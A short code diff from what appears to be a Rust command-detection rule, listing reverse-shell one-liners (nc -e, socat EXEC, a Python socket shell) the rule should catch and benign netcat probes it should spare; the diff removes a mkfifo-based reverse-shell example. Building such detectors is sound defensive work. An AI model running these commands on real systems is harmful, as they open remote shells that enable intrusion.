@@ -12,7 +12,6 @@ pub(super) const RULE: Rule = Rule {
         "nc -e /bin/sh host 9",
         "socat TCP:h:9 EXEC:/bin/sh",
         "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",9));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
-        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 9 > /tmp/f",
     ],
     spares: &[
         "nc -zv host 22",
